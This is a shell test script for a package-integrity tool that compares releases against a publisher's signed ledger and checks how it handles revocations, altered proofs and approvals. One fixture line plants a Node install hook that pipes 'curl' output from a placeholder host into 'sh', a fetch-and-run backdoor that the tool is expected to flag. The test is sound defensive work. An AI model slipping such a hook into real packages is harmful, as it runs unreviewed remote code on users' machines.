#!/bin/sh
# diff and inspect ask the publisher's ledger when --trust pins one.
. "$(dirname "$0")/lib.sh"
. "$ROOT/tests/cli/ledger-lib.sh"

# proof VERSION FILE: lays the newest proof of this release beside it
proof() {
	"$ASSAY" ledger publish L --quiet >/dev/null || fail "publish $1"
	cp "L/proofs/greeter-stable-$1.assay-proof" "$2.assay-proof"
}

HOOK='require("child_process").execSync("curl -s https://cdn.example/x | sh");'
vendor
release greeter-1.0 1.0
release greeter-1.1 1.1
release greeter-1.2 1.2 "$HOOK"
ship greeter 1.0 greeter-1.0.tgz
proof 1.0 greeter-1.0.tgz

# An ordinary step without the word that the release before had.
is 0 diff greeter-1.0.tgz greeter-1.1.tgz
lacks out ledger
is 1 diff greeter-1.0.tgz greeter-1.1.tgz --trust trust --format json
valid assay.diff.v1 out
has out '"verdict": "review"'
has out AS-0060
has out '"status": 10'
# A first release without a proof: said, not held against it.
is 0 inspect greeter-1.1.tgz --trust trust
has out "does not vouch for it: there is no proof"

ship greeter 1.1 greeter-1.1.tgz
proof 1.1 greeter-1.1.tgz
is 0 diff greeter-1.0.tgz greeter-1.1.tgz --trust trust
has out 'In the publisher'
has out '2 of 2 approvers'
is 0 diff greeter-1.0.tgz greeter-1.1.tgz --trust trust --format json
valid assay.diff.v1 out
has out '"ledger"'
# The proof may lie elsewhere.
mv greeter-1.1.tgz.assay-proof elsewhere
mv greeter-1.0.tgz.assay-proof before
is 0 diff greeter-1.0.tgz greeter-1.1.tgz --trust trust --proof elsewhere --old-proof before
has out '2 of 2 approvers'
# OLD's cosignatures may be old by now, NEW's word still counts.
is 0 diff greeter-1.0.tgz greeter-1.1.tgz --trust trust --proof elsewhere --old-proof before --now 2036-01-01
mv elsewhere greeter-1.1.tgz.assay-proof
mv before greeter-1.0.tgz.assay-proof

# Another file under its proof; and one bent byte in the proof.
cp greeter-1.1.tgz.assay-proof greeter-1.2.tgz.assay-proof
is 1 diff greeter-1.0.tgz greeter-1.2.tgz --trust trust --format json
has out AS-0060
has out '"status": 11'
is 1 inspect greeter-1.2.tgz --trust trust --format json
has out AS-0060
sed 's/A/B/9' greeter-1.1.tgz.assay-proof >bent
is 1 diff greeter-1.0.tgz greeter-1.1.tgz --trust trust --proof bent
has out 'Continuity: is not what its publisher approved'

# Approval never makes a backdoor clean: whoever holds the approvers may be wrong.
ship greeter 1.2 greeter-1.2.tgz
proof 1.2 greeter-1.2.tgz
is 1 diff greeter-1.1.tgz greeter-1.2.tgz --format json
has out '"verdict": "tampered"'
is 1 diff greeter-1.1.tgz greeter-1.2.tgz --trust trust --format json
grep -qE '"verdict": "(review|tampered)"' out || fail 'an approval made it clean'
has out '"status": 0'

# Taken back by an approver.
cp greeter-1.1.tgz.assay-proof early
is 0 ledger revoke L --product greeter --release 1.1 --reason 'built by the wrong host' -k approver1.key
is 0 ledger publish L --quiet
is 0 diff greeter-1.0.tgz greeter-1.1.tgz --trust trust
is 1 diff greeter-1.0.tgz greeter-1.1.tgz --trust trust --more L/proofs/greeter-stable-1.1.assay-proof
has out 'TAMPERED'
has out 'built by the wrong host'
proof 1.1 greeter-1.1.tgz
is 1 diff greeter-1.0.tgz greeter-1.1.tgz --trust trust --format json
has out '"verdict": "tampered"'
has out '"status": 21'

# Questions that cannot be asked.
is 2 diff greeter-1.0.tgz greeter-1.1.tgz --trust nowhere
has err nowhere
is 2 diff greeter-1.0.tgz greeter-1.1.tgz --trust trust --proof nowhere
is 2 diff greeter-1.0.tgz greeter-1.1.tgz --trust greeter-1.0.tgz
# A folder holds no file that anybody approved.
is 1 diff greeter-1.0.tgz greeter-1.1 --trust trust
has out 'a folder has no proof'
done_
